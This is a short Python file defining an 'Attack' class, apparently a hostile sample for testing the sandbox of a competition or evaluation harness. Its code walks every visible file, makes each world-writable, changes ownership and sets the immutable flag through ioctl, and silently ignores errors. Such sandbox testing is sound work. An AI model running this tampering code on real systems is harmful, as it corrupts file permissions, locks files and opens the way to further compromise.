"""Changes mode, owner and flags of the files it was given, and of every other that it can name."""

import fcntl
import os
import struct

from aim import attempt, visible

from run import ZEWDPCBaseRun

SET_FLAGS, SET_VERSION, IMMUTABLE = 0x40086602, 0x40087602, 0x10


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for path in visible():
            file = attempt(os.open, path, os.O_RDONLY)
            if file is not None:
                attempt(os.fchmod, file, 0o777)
                attempt(os.fchown, file, os.getuid(), os.getgid())
                attempt(fcntl.ioctl, file, SET_FLAGS, struct.pack("l", IMMUTABLE))
                attempt(fcntl.ioctl, file, SET_VERSION, struct.pack("l", 7))
            attempt(os.chmod, path, 0o777)
